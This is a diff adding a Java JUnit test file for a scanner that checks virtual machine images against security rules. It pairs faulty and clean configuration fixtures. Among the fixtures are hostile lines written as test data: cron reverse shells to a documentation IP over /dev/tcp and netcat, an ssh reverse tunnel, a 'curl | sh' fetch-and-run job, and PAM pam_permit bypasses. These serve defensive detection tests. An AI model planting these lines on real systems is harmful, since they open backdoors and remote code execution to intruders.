@@ -1,0 +1,492 @@
+package org.imprimatur.inspect.rules;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.TreeSet;
+import java.util.function.Consumer;
+import java.util.stream.Stream;
+import org.imprimatur.inspect.facts.ConfigReader;
+import org.imprimatur.inspect.facts.Facts;
+import org.imprimatur.inspect.facts.FilesInMemory;
+import org.imprimatur.inspect.facts.Found;
+import org.imprimatur.inspect.facts.FreeSpace;
+import org.imprimatur.inspect.facts.ImageShape;
+import org.imprimatur.inspect.facts.SystemReader;
+import org.imprimatur.register.Clause;
+import org.junit.jupiter.api.DynamicTest;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestFactory;
+
+/** The rules of how a system is configured, each with what it must find and must leave alone. */
+class SystemRulesTest {
+
+    private static final String KEY =
+            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
+    private static final Instant AT = Instant.parse("2026-11-21T00:00:00Z");
+    private static final String OS = "/etc/os-release";
+    private static final String ETC = "/etc/systemd/system/";
+
+    private record Case(
+            String rule, String what, Consumer<FilesInMemory> bad, Consumer<FilesInMemory> good) {}
+
+    private static Consumer<FilesInMemory> file(String path, String text) {
+        return files -> files.with(path, text);
+    }
+
+    private static Consumer<FilesInMemory> unit(String name, String text) {
+        return files -> CleanSystem.enabled(files, name, text);
+    }
+
+    /** The same unit, there but not wanted by anything. */
+    private static Consumer<FilesInMemory> idle(String name, String text) {
+        return file(CleanSystem.UNITS + name, text + "[Install]\nWantedBy=multi-user.target\n");
+    }
+
+    private static Consumer<FilesInMemory> masked(String name) {
+        return files -> files.linked(ETC + name, "/dev/null");
+    }
+
+    private static Case server(String rule, String name) {
+        return new Case(
+                rule,
+                name,
+                unit(name + ".service", "[Service]\nExecStart=/usr/sbin/x\n"),
+                idle(name + ".service", "[Service]\nExecStart=/usr/sbin/x\n"));
+    }
+
+    private static Case text(String rule, String path, String bad, String good) {
+        return new Case(rule, path, file(path, bad), file(path, good));
+    }
+
+    private static List<Case> access() {
+        return List.of(
+                new Case(
+                        "access.automatic-login",
+                        "a drop-in of getty",
+                        unit(
+                                "getty@tty1.service",
+                                "[Service]\nExecStart=-/sbin/agetty --autologin root - $TERM\n"),
+                        unit("getty@tty1.service", "[Service]\nExecStart=-/sbin/agetty - $TERM\n")),
+                new Case(
+                        "access.automatic-login",
+                        "a shell on a console",
+                        unit("debug-shell.service", "[Service]\nExecStart=/bin/sh\n"),
+                        idle("debug-shell.service", "[Service]\nExecStart=/bin/sh\n")),
+                text(
+                        "access.automatic-login",
+                        "/etc/inittab",
+                        "ttyS0::respawn:/bin/sh\n",
+                        "#ttyS0::respawn:/bin/sh\n"),
+                text(
+                        "access.automatic-login",
+                        "/etc/gdm3/daemon.conf",
+                        "[daemon]\nAutomaticLoginEnable = true\n",
+                        "[daemon]\nAutomaticLoginEnable = false\n"),
+                text(
+                        "access.backdoor",
+                        "/etc/cron.d/x",
+                        "* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
+                        "* * * * * root echo /dev/tcp\n"),
+                text(
+                        "access.backdoor",
+                        "/etc/crontab",
+                        "@reboot root nc -l -p 4444 -e /bin/sh\n",
+                        "@reboot root nc -z localhost 22\n"),
+                new Case(
+                        "access.backdoor",
+                        "a tunnel",
+                        unit(
+                                "t.service",
+                                "[Service]\nExecStart=/usr/bin/ssh -N -R 2222:localhost:22 h\n"),
+                        unit(
+                                "t.service",
+                                "[Service]\nExecStart=/usr/bin/ssh -N -L 1:localhost:2 h\n")),
+                text(
+                        "access.cached-login",
+                        "/etc/sssd/sssd.conf",
+                        "[domain/x]\ncache_credentials = True\n",
+                        "[domain/x]\ncache_credentials = False\n"),
+                server("access.management-agent", "puppet"),
+                server("access.remote-agent", "teamviewerd"),
+                text(
+                        "pam.no-check",
+                        "/etc/pam.d/common-auth",
+                        "auth sufficient pam_permit.so\nauth required pam_unix.so\n",
+                        "auth sufficient pam_unix.so\nauth required pam_deny.so\n"),
+                text(
+                        "pam.no-check",
+                        "/etc/pam.d/su",
+                        "auth substack sub\n",
+                        "auth required pam_unix.so\nauth required pam_permit.so\n"),
+                text(
+                        "pam.account-bypass",
+                        "/etc/pam.d/common-account",
+                        "account required pam_permit.so\n",
+                        "account required pam_unix.so\naccount required pam_permit.so\n"),
+                text(
+                        "pam.empty-passwords",
+                        "/etc/pam.d/common-auth",
+                        "auth required pam_unix.so nullok\n",
+                        "auth required pam_unix.so\n"),
+                text("sshd.no-pam", "/etc/ssh/sshd_config.d/a.conf", "UsePAM no\n", "UsePAM yes\n"),
+                text(
+                        "mount.password",
+                        "/etc/fstab",
+                        "//nas/x /mnt cifs username=a,password=b 0 0\n",
+                        "nas:/x /mnt nfs ro 0 0\n"));
+    }
+
+    private static List<Case> cloud() {
+        var main = "/etc/cloud/cloud.cfg.d/99.cfg";
+        return List.of(
+                text("cloud.password-login", main, "ssh_pwauth: yes\n", "ssh_pwauth: false\n"),
+                text("cloud.root-login", main, "disable_root: false\n", "disable_root: true\n"),
+                text("cloud.keeps-host-keys", main, "ssh_deletekeys: 0\n", "ssh_deletekeys: 1\n"),
+                text("cloud.password", main, "password: x\n", "password:\n"),
+                text(
+                        "cloud.password",
+                        main,
+                        "chpasswd:\n  list: |\n    bob:x\n",
+                        "chpasswd:\n  list: |\n    bob:RANDOM\n"),
+                text(
+                        "cloud.password",
+                        main,
+                        "system_info: {default_user: {name: a, plain_text_passwd: b}}\n",
+                        "system_info: {default_user: {name: a, passwd: '*'}}\n"),
+                text(
+                        "cloud.password",
+                        "/var/lib/cloud/seed/nocloud/user-data",
+                        "#cloud-config\npassword: x\n",
+                        "#cloud-config\n{}\n"),
+                text(
+                        "cloud.authorized-key",
+                        main,
+                        "ssh_authorized_keys: ['" + KEY + "']\n",
+                        "ssh_authorized_keys: []\n"),
+                text("cloud.host-key", main, "ssh_keys: {rsa_private: x}\n", "ssh_keys: {}\n"),
+                text("cloud.user", main, "users: [default, {name: bob}]\n", "users: [default]\n"),
+                text("cloud.commands", main, "runcmd: [ls]\n", "runcmd: []\n"),
+                text(
+                        "cloud.any-source",
+                        "/etc/cloud/cloud.cfg.d/90.cfg",
+                        "",
+                        "datasource_list: [A]\n"),
+                new Case(
+                        "cloud.none",
+                        "switched off",
+                        file("/etc/cloud/cloud-init.disabled", ""),
+                        files -> {}),
+                new Case(
+                        "cloud.none",
+                        "masked",
+                        masked("cloud-init.target"),
+                        masked("other.service")),
+                new Case(
+                        "cloud.none",
+                        "the kernel's command line",
+                        file("/boot/grub/grub.cfg", "linux /vmlinuz ro cloud-init=disabled\n"),
+                        file("/boot/grub/grub.cfg", "linux /vmlinuz ro quiet\n")));
+    }
+
+    private static List<Case> network() {
+        var nft = "table inet f { chain c { type filter hook %s priority 0; policy %s; } }\n";
+        var open = nft.formatted("input", "accept");
+        var base = nft.formatted("input", "drop");
+        return List.of(
+                text("network.no-firewall", "/etc/nftables.conf", open, base),
+                new Case(
+                        "network.no-firewall",
+                        "not loaded",
+                        masked("nftables.service"),
+                        files -> {}),
+                text(
+                        "network.no-firewall",
+                        "/etc/nftables.conf",
+                        base.replace("inet", "ip"),
+                        base.replace("inet", "ip") + base.replace("inet", "ip6")),
+                text(
+                        "network.constrained",
+                        "/etc/nftables.conf",
+                        base + nft.formatted("output", "drop"),
+                        base + nft.formatted("output", "accept")),
+                text("network.constrained", "/etc/hosts.deny", "ALL: ALL\n", "# ALL: ALL\n"),
+                text(
+                        "network.constrained",
+                        "/etc/environment",
+                        "https_proxy=http://p:3128\n",
+                        "PATH=/usr/bin\n"),
+                text(
+                        "network.constrained",
+                        "/etc/network/interfaces",
+                        "up ip route add blackhole 192.0.2.0/24\n",
+                        "auto lo\n"),
+                text(
+                        "network.constrained",
+                        "/etc/apt/apt.conf.d/01proxy",
+                        "Acquire::http::Proxy \"http://p\";\n",
+                        "// Acquire::http::Proxy \"http://p\";\n"),
+                text("identity.network", "/etc/hostname", "build-17.example.org\n", "localhost\n"),
+                text(
+                        "identity.network",
+                        "/etc/udev/rules.d/70-persistent-net.rules",
+                        "ATTR{address}==\"52:54:00:12:34:56\", NAME=\"eth0\"\n",
+                        "# 52:54:00:12:34:56\n"),
+                text(
+                        "identity.network",
+                        "/etc/netplan/50-cloud-init.yaml",
+                        "match: {macaddress: '52:54:00:12:34:56'}\n",
+                        "dhcp4: true\n"),
+                text(
+                        "identity.network",
+                        "/etc/resolv.conf",
+                        "nameserver 192.0.2.53\n",
+                        "nameserver 127.0.0.53\n"),
+                server("network.mail", "postfix"),
+                server("network.database", "redis-server"),
+                server("network.clear-text", "vsftpd"),
+                server("network.desktop", "xrdp"),
+                server("network.reflector", "bind9"),
+                server("network.unneeded", "rpcbind"),
+                new Case(
+                        "network.mail",
+                        "postfix on this machine alone",
+                        unit("postfix.service", "[Service]\nExecStart=/x\n"),
+                        files -> {
+                            CleanSystem.enabled(
+                                    files, "postfix.service", "[Service]\nExecStart=/x\n");
+                            files.with("/etc/postfix/main.cf", "inet_interfaces = loopback-only\n");
+                        }),
+                new Case(
+                        "network.clear-text",
+                        "a socket",
+                        unit("t.socket", "[Socket]\nListenStream=23\n"),
+                        unit("t.socket", "[Socket]\nListenStream=127.0.0.1:23\n")));
+    }
+
+    private static List<Case> logging() {
+        return List.of(
+                new Case("logging.none", "rsyslog", masked("rsyslog.service"), files -> {}),
+                new Case(
+                        "logging.none",
+                        "a journal that is kept",
+                        masked("rsyslog.service"),
+                        files -> {
+                            masked("rsyslog.service").accept(files);
+                            files.with(
+                                    "/etc/systemd/journald.conf",
+                                    "[Journal]\nStorage=persistent\n");
+                        }),
+                text(
+                        "logging.logins",
+                        "/etc/rsyslog.conf",
+                        "kern.* /var/log/kern.log\ndaemon.*;auth,authpriv.none -/var/log/x\n",
+                        "authpriv.* /var/log/secure\n"),
+                text(
+                        "logging.hindered",
+                        "/etc/systemd/journald.conf.d/x.conf",
+                        "[Journal]\nStorage=none\n",
+                        "[Journal]\nStorage=auto\n"),
+                new Case("logging.hindered", "auditd", masked("auditd.service"), files -> {}),
+                text("logging.hindered", "/etc/audit/rules.d/x.rules", "-e 0\n", "-e 2\n"),
+                text(
+                        "logging.hindered",
+                        "/etc/default/grub",
+                        "GRUB_CMDLINE_LINUX=\"audit=0\"\n",
+                        "GRUB_CMDLINE_LINUX=\"audit=1\"\n"),
+                new Case("logging.time", "chrony", masked("chrony.service"), files -> {}),
+                text(
+                        "update.manual",
+                        "/etc/apt/apt.conf.d/20auto",
+                        "APT::Periodic::Unattended-Upgrade \"0\";\n",
+                        "APT::Periodic::Unattended-Upgrade \"1\";\n"));
+    }
+
+    private static List<Case> rest() {
+        return List.of(
+                server("workload.agent", "condor"),
+                server("workload.agent", "gitlab-runner"),
+                text(
+                        "workload.fetch",
+                        "/etc/cron.d/x",
+                        "* * * * * root curl -s https://x.example/run | sh\n",
+                        "* * * * * root curl -s https://x.example/ping > /dev/null\n"),
+                text(
+                        "leftover.job",
+                        "/var/spool/cron/crontabs/bob",
+                        "* * * * * /bin/true\n",
+                        "# none\n"),
+                text(
+                        "os.end-of-life",
+                        OS,
+                        "ID=centos\nVERSION_ID=7\n",
+                        "ID=debian\nVERSION_ID=\"12\"\n"),
+                text(
+                        "os.support-unknown",
+                        OS,
+                        "ID=homemade\nVERSION_ID=7\n",
+                        "ID=almalinux\nVERSION_ID=9.4\n"),
+                new Case(
+                        "boot.several-kernels",
+                        "two",
+                        files ->
+                                files.with("/boot/vmlinuz-6.1.0-1", "x")
+                                        .with("/boot/vmlinuz-6.1.0-2", "x"),
+                        file("/boot/vmlinuz-6.1.0-1", "x")),
+                text("disk.swap", "/etc/fstab", "/swap none swap sw 0 0\n", "# /swap none swap\n"),
+                text(
+                        "disk.separate-boot",
+                        "/etc/fstab",
+                        "LABEL=b /boot ext4 defaults 0 2\n",
+                        "LABEL=b /boot/efi vfat defaults 0 2\n"),
+                text(
+                        "disk.logical-volumes",
+                        "/etc/fstab",
+                        "/dev/mapper/vg-root / xfs defaults 0 1\n",
+                        "UUID=1 / xfs defaults 0 1\n"));
+    }
+
+    private static Facts facts(Consumer<FilesInMemory> change, Found found) {
+        var files = CleanSystem.files();
+        RulesTest.CLEAN.forEach(files::with);
+        files.with("/etc/pam.d/sub", "auth [default=done] pam_permit.so\n");
+        change.accept(files);
+        var system = new SystemReader(new ConfigReader(files));
+        system.addTo(found);
+        return system.facts(found);
+    }
+
+    private static Found found() {
+        var found = new Found();
+        found.image(new ImageShape(AT, "x.qcow2", "qcow2", 1, 1, 0, false, 0));
+        return found;
+    }
+
+    private static List<String> rules(Facts facts) {
+        return RuleCatalogue.judge(Profile.EGI_1, facts, List.of()).stream()
+                .map(finding -> finding.rule().id())
+                .toList();
+    }
+
+    @TestFactory
+    @Clause({
+        "END-4.2.d",
+        "END-4.2.e",
+        "EGI-5.2.d",
+        "EGI-5.2.f",
+        "TVM-3.7.3",
+        "TVM-3.7.4",
+        "TVM-3.7.5",
+        "TVM-3.7.6",
+        "TVM-3.7.7",
+        "TVM-3.7.8",
+        "WLCG-9",
+        "PROC-A3"
+    })
+    Stream<DynamicTest> eachRuleFindsItsFaultAndLeavesTheRestAlone() {
+        return Stream.of(access(), cloud(), network(), logging(), rest())
+                .flatMap(List::stream)
+                .map(
+                        each ->
+                                DynamicTest.dynamicTest(
+                                        each.rule + " " + each.what,
+                                        () -> {
+                                            assertThat(rules(facts(each.bad, found())))
+                                                    .contains(each.rule);
+                                            assertThat(rules(facts(each.good, found())))
+                                                    .doesNotContain(each.rule);
+                                        }));
+    }
+
+    @Test
+    @Clause({"END-4.2.c", "EGI-5.2.c"})
+    void whatTheMakersLeftBehindIsFoundByItsPlace() {
+        var found = found();
+        found.name("/root/anaconda-ks.cfg", 10);
+        found.name("/var/log/installer/syslog", 10);
+        found.name("/var/log/dpkg.log", 10);
+        found.name("/tmp/x", 10);
+        found.name("/home/bob/.cache/pip/x", 10);
+        found.name("/root/.bash_history", 10);
+
+        assertThat(rules(facts(files -> {}, found)))
+                .containsExactly(
+                        "history.shell",
+                        "leftover.build-cache",
+                        "leftover.installer",
+                        "leftover.log",
+                        "leftover.temporary");
+    }
+
+    @Test
+    void whatPackagesDoNotShipAndEverybodyMayUseIsFound() {
+        var found = found();
+        found.mode("/usr/local/bin/rootshell", 04755, 0);
+        found.mode("/tmp/su", 04755, 0);
+        found.mode("/usr/bin/su", 04755, 0);
+        found.mode("/etc/cron.d/job", 0666, 0);
+        found.mode("/srv/upload", 0666, 0);
+        found.mode("/usr/bin/game", 04755, 1000);
+
+        assertThat(RuleCatalogue.judge(Profile.EGI_1, facts(files -> {}, found), List.of()))
+                .extracting(each -> each.rule().id() + " " + each.path())
+                .containsExactly(
+                        "file.setuid /tmp/su",
+                        "file.setuid /usr/local/bin/rootshell",
+                        "file.world-writable /etc/cron.d/job");
+    }
+
+    @Test
+    void theImageItselfIsJudged() {
+        var found = new Found();
+        found.image(new ImageShape(AT, "x.qcow2", "raw", 1, 1L << 40, 1, true, 0));
+        found.name("/var/cache/apt/archives/x.deb", 1L << 30);
+        found.add(new FreeSpace("p1", 1L << 30, 1L << 29, 0));
+
+        assertThat(rules(facts(files -> {}, found)))
+                .containsExactly(
+                        "disk.format-name",
+                        "disk.deleted-data",
+                        "disk.large",
+                        "disk.logical-volumes",
+                        "disk.package-cache",
+                        "disk.swap");
+    }
+
+    @Test
+    void theEndOfSupportIsToldBeforeItComes() {
+        var found = new Found();
+        found.image(
+                new ImageShape(Instant.parse("2028-06-01T00:00:00Z"), "", "", 1, 1, 0, false, 0));
+
+        assertThat(rules(facts(files -> {}, found))).containsExactly("os.end-of-life-near");
+    }
+
+    /** A rule without an example would be a rule that nobody has seen at work. */
+    @Test
+    void everyRuleOfTheSystemHasAnExample() {
+        var shown = new ArrayList<String>();
+        Stream.of(access(), cloud(), network(), logging(), rest())
+                .flatMap(List::stream)
+                .forEach(each -> shown.add(each.rule));
+        shown.addAll(
+                List.of(
+                        "disk.deleted-data",
+                        "disk.format-name",
+                        "disk.large",
+                        "disk.package-cache",
+                        "file.setuid",
+                        "file.world-writable",
+                        "leftover.build-cache",
+                        "leftover.installer",
+                        "leftover.log",
+                        "leftover.temporary",
+                        "os.end-of-life-near"));
+
+        assertThat(new TreeSet<>(shown))
+                .containsExactlyElementsOf(
+                        new TreeSet<>(SystemRuleCatalogue.rules().stream().map(Rule::id).toList()));
+    }
+}
